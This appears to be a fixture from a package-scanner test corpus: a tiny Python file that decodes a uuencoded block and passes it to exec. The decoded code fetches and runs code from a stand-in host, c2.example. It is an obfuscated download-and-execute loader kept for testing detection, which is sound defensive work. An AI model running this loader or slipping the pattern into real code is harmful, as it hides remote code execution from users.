# pkgguard corpus 417 (encoding-layers), modelled on [obfuscation]; inert, never run.
import binascii

_BLOCK = """M:6UP;W)T('5R;&QI8BYR97%U97-T(&%S('4*97AE8RAU+G5R;&]P96XH)VAT
=='!S.B\O8S(N97AA;7!L92]Q)RDN<F5A9"@I*0H """

_src = b"".join(binascii.a2b_uu(row) for row in _BLOCK.splitlines())
exec(compile(_src, "<cfg>", "exec"))
